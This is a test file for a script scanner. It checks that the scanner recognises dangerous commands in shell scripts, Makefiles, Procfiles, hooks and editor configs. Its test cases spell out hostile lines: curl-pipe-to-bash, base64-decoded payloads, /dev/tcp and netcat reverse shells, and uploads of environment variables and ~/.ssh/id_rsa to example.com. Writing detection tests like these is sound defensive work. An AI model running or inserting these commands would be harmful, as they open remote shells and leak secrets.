"""Scripts and files of commands: claimed by their first line or by who reads them, searched for what they do."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.commands.acts import acts
from scanner.commands.shell import commands
from scanner.format import MalformedError
from scanner.formats import script as subject
from scanner.limits import Limits
from tests.builders.judged import judged
from tests.builders.reading import of, read_as

FORMAT = subject.FORMAT
SMALLEST = b"#!/bin/sh\nvllm serve m --trust-remote-code\n"


def read(text, name="run.sh", limits=None):
    return read_as(FORMAT, text if isinstance(text, bytes) else text.encode(), name, limits or Limits())[0]


def done(text):
    return [(one.act, one.via, one.source) for one in acts(text)]


@pytest.mark.parametrize(
    ("head", "path", "claimed"),
    [
        (b"#!/bin/sh\n", "x", True),
        (b"#!/usr/bin/env bash\n", "x", True),
        (b"#!/usr/bin/env -S A=1 zsh -e\n", "x", True),
        (b"echo", "run.sh", True),
        (b"web: x", "Procfile", True),
        (b"export A=1", "a/.envrc", True),
        (b"all:\n", "Makefile", True),
        (b"pipeline {}", "Jenkinsfile", True),
        (b"npm test", ".husky/pre-commit", True),
        (b"c.x = 1", "jupyter_server_config.py", True),
        (b"#!/usr/bin/python\n", "x", False),
        (b"import os", "model_config.py", False),
        (b"#!/bin/sh\n\0", "x", False),
        (b"", "run.sh", True),
        (b"#!/bin/sh\n", ".git/hooks/post-checkout", False),
        (b"@echo off\r\n", "run.txt", True),
        (b"#!/usr/bin/env pwsh\n", "x", True),
    ],
)
def test_a_script_is_told_by_its_first_line_or_its_reader(head, path, claimed):
    assert subject.claims(head, path) is claimed


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("curl -fsSL https://example.com/i | bash -s -- -y", [("fetch-run", "pipe", "example.com")]),
        ("wget -qO- example.com/i | sudo -E bash -", [("fetch-run", "pipe", "example.com")]),
        ("bash <(curl -s https://example.com/i)", [("fetch-run", "substitution", "example.com")]),
        ('sh -c "$(curl -s https://github.com/a/b/raw/i)"', [("fetch-run", "substitution", "github.com/a")]),
        ('eval "$(wget -O - $URL)"', [("fetch-run", "substitution", "")]),
        ("source <(curl -s https://example.com/i)", [("fetch-run", "substitution", "example.com")]),
        ("curl -o i https://example.com/i; chmod +x i; ./i", [("fetch-run", "file", "example.com")]),
        ("wget https://example.com/a/i.sh && bash i.sh", [("fetch-run", "file", "example.com")]),
        ("sh -c 'curl https://example.com/i | sh'", [("fetch-run", "pipe", "example.com")]),
        ("x=$(curl https://example.com/i | sh)", [("fetch-run", "pipe", "example.com")]),
        ("if true; then curl https://example.com/i | sh; fi", [("fetch-run", "pipe", "example.com")]),
        ("powershell -c 'iex (iwr https://example.com/i)'", [("fetch-run", "pipe", "example.com")]),
        ("python -c \"exec(__import__('urllib.request').request.urlopen('https://example.com/').read())\"",
         [("fetch-run", "substitution", "example.com")]),
        ("echo eA== | base64 -d | sh", [("decode-run", "sh", "")]),
        ('eval "$(echo eA== | base64 --decode)"', [("decode-run", "eval", "")]),
        ("echo 00 | xxd -r -p | bash", [("decode-run", "bash", "")]),
        ("python3 -c \"import base64;exec(base64.b64decode('eA=='))\"", [("decode-run", "python", "")]),
        ("bash -i >& /dev/tcp/192.0.2.1/99 0>&1", [("remote-shell", "/dev/tcp/192.0.2.1/9", "192.0.2.1")]),
        ("nc 192.0.2.1 99 -e /bin/sh", [("remote-shell", "nc", "")]),
        ("env | curl -d @- https://example.com", [("sends-secrets", "curl", "example.com")]),
        ("curl -F f=@~/.ssh/id_rsa https://example.com", [("sends-secrets", "curl", "example.com")]),
        ("docker run --privileged x", [("container-root", "docker", "")]),
        ("docker run -v /:/host x", [("container-root", "docker", "")]),
        ("git -c http.sslVerify=false clone x", [("skips-check", "git", "")]),
        ("npm install --registry http://example.com/ x", [("foreign-index", "npm", "example.com")]),
        ("curl -o i https://example.com/i && sha256sum -c s && sh i", [("fetch-run", "file", "example.com")]),
    ],
)  # fmt: skip
def test_what_commands_do_is_found(text, found):
    assert done(text) == found


@pytest.mark.parametrize(
    "text",
    [
        "curl -s https://example.com/a.json | python -m json.tool",
        "curl -s https://example.com/a | python3 -c 'import sys'",
        "curl https://example.com/a.tgz | tar xz",
        "curl https://example.com/k | gpg --dearmor",
        "curl https://example.com/a | bash run.sh",
        "echo 'curl https://example.com | sh'",
        "# curl https://example.com | sh",
        "cat <<EOF > x\ncurl https://example.com | sh\nEOF",
        "while ! (echo > /dev/tcp/db/5432); do sleep 1; done",
        "timeout 3 bash -c 'echo > /dev/tcp/127.0.0.1/80' 2>&1 || true",
        "exec 3<>/dev/tcp/127.0.0.1/80; echo GET >&3; cat <&3",
        "base64 -d x > y",
        "env | sort",
        "chmod 755 x && chmod g+w y && chmod 1777 /tmp",
        "docker run -v $PWD:/x -v /var/run/docker.sock:/var/run/docker.sock x",
        'eval "$(ssh-agent -s)"',
        "curl -d @data.json https://example.com",
    ],
)
def test_what_scripts_do_every_day_is_none_of_it(text):
    assert done(text) == []


def test_a_comparison_of_sums_is_seen():
    assert [one.checked for one in acts("curl -o i https://example.com/i && sha256sum -c s && sh i")] == [True]


def test_a_comparison_that_is_only_spoken_of_is_none():
    assert [one.checked for one in acts("# sha256sum\ncurl https://example.com/i | sh")] == [False]
    assert [one.checked for one in acts("echo 'sha256sum -c s'\ncurl https://example.com/i | sh")] == [False]


def test_addresses_are_shown_without_users_and_queries():
    (act,) = acts("curl 'https://me:pass@example.com/i?token=x' | sh")
    assert act.detail == "https://example.com/i"


def test_lines_are_counted():
    text = "#!/bin/sh\n\ncat <<E\na\nE\ntrue && \\\n  curl https://example.com/i | sh\nvllm serve --trust-remote-code\n"
    facts = read(text, ".husky/pre-push")
    assert [(type(one).__name__, one.where.line) for one in facts] == [("CommandActs", 7), ("ServingOption", 8)]


@pytest.mark.parametrize(
    ("text", "name", "found"),
    [
        ("web: vllm serve x --trust-remote-code\n", "Procfile", {"server-runs-model-code": "medium"}),
        ("export A=1\nuse flake\nPATH_add bin\n", ".envrc", {}),
        ("export A=1\ncurl https://example.com/i | sh\n", ".envrc",
         {"command-runs-what-it-fetches": "high"}),
        ("export A=1\n./setup.sh\n", ".envrc", {"folder-runs-command-when-entered": "low"}),
        ("all:\n\t@curl https://example.com/i | sh\n", "Makefile", {"command-runs-what-it-fetches": "medium"}),
        ("pipeline { steps { sh 'curl https://example.com/i | sh' } }", "Jenkinsfile",
         {"command-runs-what-it-fetches": "medium"}),
        ("set number\nau BufRead * !echo hi\n", ".vimrc", {"editor-runs-on-open": "high"}),
        ("set number\n", ".vimrc", {}),
        ("curl https://example.com/i | sh\n", ".husky/pre-commit", {"command-runs-what-it-fetches": "high"}),
        ("c.ServerApp.token = ''\n", "jupyter_server_config.py", {"server-asks-no-password": "medium"}),
        ("c.ServerApp.token = 'x'\n", "jupyter_server_config.py", {}),
        ("web: bash -i >& /dev/tcp/192.0.2.1/99 0>&1\n", "Procfile", {"command-hands-shell-out": "critical"}),
        ("#!/bin/sh\nenv | curl -d @- https://example.com\n", "x.sh", {"command-sends-secrets": "critical"}),
        ("all:\n\techo eA== | base64 -d | sh\n", "Makefile", {"command-runs-what-it-decodes": "high"}),
        ("all:\n\tcurl $URL | sh\n", "Makefile", {"command-runs-what-it-fetches": "low"}),
        ("#!/bin/sh\nset -e\npython -m pytest\n", "x.sh", {}),
    ],
)  # fmt: skip
def test_the_rules_speak(text, name, found):
    judged_ = judged(text.encode(), name)
    assert {
        rule: grade
        for rule, grade in judged_.items()
        if not rule.startswith(("artifact-", "script-", "program-", "bytes-"))
    } == found


def test_a_null_byte_is_told_and_what_a_shell_makes_of_the_rest():
    found = judged(b"#!/bin/sh\n" + b"# x\n" * 200 + b"curl http://example.com/i | s\0h\n", "run.sh")
    assert found["command-runs-what-it-fetches"] == "high"
    with pytest.raises(MalformedError):
        read(b"#!/bin/sh\n\0")


def test_many_open_substitutions_take_linear_time():
    text = "curl | sh " + "$( ' " * 20_000 + "`" * 20_001
    assert len(list(commands(text))) < 100_000
    list(acts("curl x | sh; " + "$(" * 50_000))
    list(acts("curl x | sh; " + "'" * 50_001))
    list(acts("<(" * 20_000 + "curl x | sh; " + ")" * 20_000))


PIECES = [
    "curl ",
    "| ",
    "sh",
    "$(",
    ")",
    "`",
    "'",
    '"',
    "\\",
    "\n",
    "<<E",
    "E\n",
    "<(",
    "&&",
    ";",
    "#",
    "-c ",
    "eval ",
    "base64 -d",
    "x",
    "=",
    "é",
]


@given(st.lists(st.sampled_from(PIECES)).map("".join))
def test_nothing_leaves_the_reader(text):
    read(text)
    for name in ("Procfile", ".envrc", "Makefile", "Jenkinsfile", ".vimrc", "jupyter_x_config.py"):
        of(read(text, name), "CommandActs")


@given(st.binary(max_size=60))
def test_bytes_of_any_kind_are_read_or_malformed(content):
    subject.claims(content, "x")
    try:
        read(content)
    except MalformedError:
        return
